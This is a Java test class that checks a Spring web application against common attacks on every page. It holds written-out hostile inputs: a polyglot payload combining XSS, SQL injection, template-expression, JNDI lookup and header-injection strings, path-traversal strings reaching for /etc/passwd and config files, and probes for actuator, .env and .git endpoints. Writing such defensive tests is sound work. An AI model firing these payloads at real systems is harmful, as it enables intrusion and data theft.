package tuanju.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.authentication;

import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.security.authentication.UsernamePasswordAuthenticationToken;
import org.springframework.test.web.servlet.assertj.MvcTestResult;
import org.springframework.web.util.UriUtils;
import tuanju.member.SignedIn;
import tuanju.security.Routes.Row;
import tuanju.security.Routes.Whose;

/** What an attacker tries on every page alike. */
class AttackTest extends AtEveryDoor {

    private static final String SCRIPT = "<script>alert(1)</script>";

    /** Breaks out of a tag, a quoted SQL text, a template expression, a log lookup and a header, all at once. */
    private static final String PAYLOAD =
            "'\"><script>alert(1)</script>' or 1=1 --${12347*98641}__${T(java.lang.Runtime)}__::.x${jndi:ldap://x/a}\r\nX-Evil: 1";

    /** What {@link #PAYLOAD}'s product comes to: long enough that no code, phone or id on a page holds it by chance. */
    private static final String COMPUTED = String.valueOf(12_347 * 98_641);

    /** What pages read from their address today, and what attackers guess. */
    private static final List<String> NAMES = List.of("q", "sort", "order", "by", "next", "action", "status", "name");

    @ParameterizedTest(name = "{0}")
    @MethodSource("pages")
    @DisplayName("A-51 A-83 A-84 what an address carries runs nowhere: no page, query, template, log or header")
    void whatAnAddressCarriesRunsNowhere(Row row) {
        var path = row.path(world.examples());
        var answer = as(row.whose(), path + (path.contains("?") ? "&" : "?") + query());
        assertThat(answer.getResponse().getStatus()).isLessThan(500);
        assertThat(text(answer)).doesNotContain(SCRIPT).doesNotContain(COMPUTED);
        assertThat(answer.getResponse().getHeader("X-Evil")).isNull();
    }

    @Test
    @DisplayName("A-51 A-91 a page that is not there repeats nothing and tells nothing of the machine")
    void aPageThatIsNotThereRepeatsNothing() {
        var answer = mvc.get()
                .uri(URI.create("/" + UriUtils.encode(PAYLOAD.replace("\r\n", ""), StandardCharsets.UTF_8)))
                .exchange();
        assertThat(answer.getResponse().getStatus()).isBetween(400, 404);
        assertThat(text(answer)).doesNotContain(SCRIPT, "Exception", "tuanju.", "Tomcat", "/work", ".java");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/actuator", "/actuator/env", "/actuator/heapdump", "/actuator/loggers", "/actuator/mappings",
                "/actuator/shutdown", "/h2-console", "/swagger-ui.html", "/swagger-ui/index.html", "/paySuccess",
                "/scheduled-tasks", "/.git/config", "/.env", "/application.yml", "/WEB-INF/web.xml"
            })
    @DisplayName("A-09 A-98 helpers, consoles and settings have no address")
    void helpersHaveNoAddress(String path) {
        assertThat(mvc.get().uri(path).exchange()).hasStatus(404);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/page/../application.yml", "/page/..%2fapplication.yml", "/page/%2e%2e/application.yml",
                "/webjars/..%2f..%2fapplication.yml", "/pictures/..%2f..%2fetc%2fpasswd", "/page/..%5capplication.yml",
                "/page/%252e%252e/application.yml", "/assets/..;/application.yml", "/tiles/../../../etc/passwd"
            })
    @DisplayName("A-86 no path leads out of the open files")
    void noPathLeadsOut(String path) {
        var answer = mvc.get().uri(URI.create(path)).exchange();
        assertThat(answer.getResponse().getStatus()).isBetween(400, 404);
        assertThat(text(answer)).doesNotContain("datasource", "root:");
    }

    @ParameterizedTest
    @ValueSource(strings = {"https://evil.example", "null", "http://localhost.evil.example"})
    @DisplayName("A-55 A-56 no other site may read an answer or frame a page")
    void noOtherSiteMayReadOrFrame(String origin) {
        for (var path : List.of("/", "/sign-in", "/api/v1/team-offers?community=none", "/page/once.js")) {
            var answer = mvc.get().uri(path).header("Origin", origin).exchange().getResponse();
            assertThat(answer.getHeader("Access-Control-Allow-Origin")).as(path).isNull();
            assertThat(answer.getHeader("Content-Security-Policy")).as(path).contains("frame-ancestors 'none'");
            assertThat(answer.getHeader("X-Frame-Options")).as(path).isEqualTo("DENY");
        }
    }

    private static String query() {
        var value = UriUtils.encode(PAYLOAD, StandardCharsets.UTF_8);
        return String.join("&", NAMES.stream().map(it -> it + "=" + value).toList());
    }

    static Stream<Row> pages() {
        return Routes.table().stream()
                .filter(it -> it.method().equals("GET") && it.whose() != Whose.MACHINE)
                .filter(it -> !it.pattern().endsWith("/live"))
                .filter(it -> it.examples().values().stream().noneMatch("none"::equals));
    }

    private MvcTestResult as(Whose whose, String address) {
        var me = new SignedIn(world.rightful(whose), "小李", false);
        var who = new UsernamePasswordAuthenticationToken(me, null, List.of());
        return mvc.get().uri(URI.create(address)).with(authentication(who)).exchange();
    }

    private static String text(MvcTestResult result) {
        return new String(result.getResponse().getContentAsByteArray(), StandardCharsets.UTF_8);
    }
}
